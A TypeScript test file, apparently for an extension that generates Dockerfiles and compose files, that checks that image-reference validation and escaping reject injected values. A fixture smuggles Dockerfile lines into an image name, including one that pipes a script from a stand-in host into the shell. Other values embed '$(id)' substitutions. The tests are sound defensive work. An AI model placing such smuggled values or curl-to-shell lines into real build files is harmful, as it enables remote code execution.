import assert from 'node:assert/strict';
import { parse } from 'yaml';
import { imageReferencePattern, imageReferenceProblem, registryPattern } from '../../../../extension/core/config/image-reference';
import { projectFileSchema } from '../../../../extension/core/config/project-file';
import { validateDocument } from '../../../../extension/core/lint/validate-document';
import { composeString, composeStrings, dockerfileWord } from '../../../../extension/core/generate/escapes';
import { renderCompose, renderDockerfile } from '../../../../extension/core/generate/deployment';
import type { RuntimeInput } from '../../../../extension/core/generate/runtime-input';

const injection = 'python:3.10-slim\nFROM python:3.10-slim AS pwn\nRUN curl -s http://evil.example/x.sh | sh\nFROM python:3.10-slim';

describe('image references (issue 15.2)', () => {
  it('accepts what Docker accepts', () => {
    for (const ok of [
      'python:3.10-slim',
      'pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime',
      'ghcr.io/mlflow/mlflow:v3.7.0',
      'flops-test/bookworm-py:b55ca35063d0',
      'localhost:5000/team/app',
      `registry.example.com:5000/a/b@sha256:${'a'.repeat(64)}`,
      'ubuntu',
      '[::1]:5000/x:latest',
    ]) {
      assert.ok(imageReferencePattern.test(ok), ok);
      assert.equal(imageReferenceProblem(ok, 'image'), undefined, ok);
    }
    for (const ok of ['ghcr.io/my-org', '192.168.1.10:5000', 'localhost:5000/team', 'ghcr.io/my-org/']) assert.ok(registryPattern.test(ok), ok);
  });

  it('refuses newlines, spaces, substitutions and other shapes, saying which character', () => {
    const cases: [string, RegExp][] = [
      [injection, /contains a line break/],
      ['python:3.10 AS pwn', /contains a space/],
      ['python:${HOME}', /contains "\$"/],
      ['mlflow:$(id)', /contains "\$"/],
      ['python:3.10\r', /contains a carriage return/],
      ['python\u0000', /control character U\+0000/],
      ['Python:3.10', /is not an image reference/],
      ['python:', /is not an image reference/],
      ['', /is empty/],
      [`${'a'.repeat(256)}:1`, /longer than Docker's 255/],
    ];
    for (const [value, message] of cases) assert.match(imageReferenceProblem(value, 'image.base_image') ?? 'accepted', message, JSON.stringify(value));
    assert.match(imageReferenceProblem('https://ghcr.io/x', 'image.registry', registryPattern) ?? 'accepted', /image\.registry/);
  });

  it('are checked by the schema, so validate, lint and generate refuse them', () => {
    for (const [field, value] of [
      ['base_image', injection],
      ['base_image', 'python:${HOME}'],
    ] as const) {
      const findings = validateDocument(JSON.stringify({ image: { [field]: value } }), { file: 'flops.json' }).findings;
      assert.equal(findings.length, 1, JSON.stringify(findings));
      assert.equal(findings[0]?.severity, 'error');
      assert.match(findings[0]?.message ?? '', /^image\.base_image: the value contains/);
    }
    const mlflow = validateDocument(JSON.stringify({ simulation: { mlflow: { image: 'mlflow:$(id)' } } }), { file: 'flops.json' }).findings;
    assert.deepEqual(mlflow.map((f) => f.severity), ['error']);
    assert.equal(projectFileSchema.safeParse({ image: { registry: 'ghcr.io/org\nRUN x' } }).success, false);
  });
});

describe('escaping helpers (issue 15.2, 15.3)', () => {
  it('dockerfileWord keeps plain values, quotes the rest and refuses control characters', () => {
    assert.equal(dockerfileWord('python:3.10-slim'), 'python:3.10-slim');
    assert.equal(dockerfileWord('a b$c"d\\e'), '"a b\\$c\\"d\\\\e"');
    assert.throws(() => dockerfileWord(injection), /control character/);
    assert.throws(() => dockerfileWord('x\ry'), /control character/);
  });

  it('composeString doubles every $', () => {
    assert.equal(composeString('python:${HOME}'), 'python:$${HOME}');
    assert.equal(composeString('$(id) $$ $'), '$$(id) $$$$ $$');
    assert.deepEqual(composeStrings({ a: ['$x', 1, { b: '${y}' }], c: null }), { a: ['$$x', 1, { b: '$${y}' }], c: null });
  });

  it('a value that got past validation still cannot add Dockerfile lines or compose substitutions', () => {
    // The schema refuses these; the renderers are checked on their own with a hand-made config.
    const config = projectFileSchema.parse({ simulation: { mlflow: { enabled: true } } });
    const input = (baseImage: string, mlflowImage: string): RuntimeInput => ({
      config: { ...config, image: { ...config.image, base_image: baseImage }, simulation: { ...config.simulation, mlflow: { ...config.simulation.mlflow, image: mlflowImage } } },
      flavor: 'sklearn',
      repoName: 'repo',
      dependencies: { source: 'conda.yaml', requirements: [], skipped: [] },
    });
    assert.throws(() => renderDockerfile(input(injection, 'mlflow')), /control character/);
    const dockerfile = renderDockerfile(input('python:${HOME}', 'mlflow'));
    assert.match(dockerfile, /^ARG BASE_IMAGE="python:\\\$\{HOME\}"$/m);
    assert.equal(dockerfile.split('\n').filter((l) => l.startsWith('FROM ')).length, 1);
    const compose = renderCompose(input('python:${HOME}', 'mlflow:$(id)'));
    const services = (parse(compose) as { services: Record<string, { image?: string; build?: { args?: Record<string, string> } }> }).services;
    assert.equal(services['aggregator']?.build?.args?.['BASE_IMAGE'], 'python:$${HOME}');
    assert.equal(services['mlflow']?.image, 'mlflow:$$(id)');
    assert.doesNotMatch(compose.replace(/\$\$/g, ''), /\$/, 'every $ in compose.yaml is doubled');
  });
});
